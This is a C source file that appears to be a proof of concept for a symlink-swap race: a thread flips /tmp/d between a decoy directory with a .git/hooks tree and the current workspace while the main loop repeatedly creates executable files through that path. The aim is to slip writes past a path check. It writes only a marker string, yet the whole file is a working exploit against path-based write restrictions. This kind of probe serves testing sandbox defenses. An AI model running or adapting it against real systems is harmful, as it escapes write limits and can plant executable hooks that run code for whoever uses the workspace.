/* flip TARGET TRIES: write d/TARGET while another thread makes d lead to /tmp/flip and to the workspace in turn.
 * Whoever judges the path sees one; whoever opens it may get the other. It ends early when that made a new file. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile int done;

static void *flip(void *unused) {
    while (!done) {
        syscall(SYS_renameat2, AT_FDCWD, "/tmp/d", AT_FDCWD, "/tmp/e", 2 /* RENAME_EXCHANGE */);
        for (int i = 0; i < 20; i++) sched_yield();
    }
    return unused;
}

int main(int argc, char **argv) {
    char here[PATH_MAX], path[PATH_MAX], planted[PATH_MAX];
    pthread_t t;
    if (argc != 3 || !getcwd(here, sizeof here)) return 64;
    mkdir("/tmp/flip", 0755);
    mkdir("/tmp/flip/.git", 0755);
    mkdir("/tmp/flip/.git/hooks", 0755);
    if (symlink("/tmp/flip", "/tmp/d") || symlink(here, "/tmp/e")) return 1;
    pthread_create(&t, NULL, flip, NULL);
    snprintf(path, sizeof path, "/tmp/d/%s", argv[1]);
    snprintf(planted, sizeof planted, "%s/%s", here, argv[1]);
    int made = 0, won = 0, is_new = access(planted, F_OK);
    for (int i = atoi(argv[2]); i > 0 && !won; i--) {
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
        if (fd < 0) continue;
        made += write(fd, "planted\n", 8) == 8;
        close(fd);
        snprintf(path, sizeof path, "/tmp/flip/%s", argv[1]);
        unlink(path);
        snprintf(path, sizeof path, "/tmp/d/%s", argv[1]);
        won = is_new && !access(planted, F_OK);
    }
    done = 1;
    pthread_join(t, NULL);
    printf("opened %d times\n%s", made, won ? "planted\n" : "");
    return 0;
}
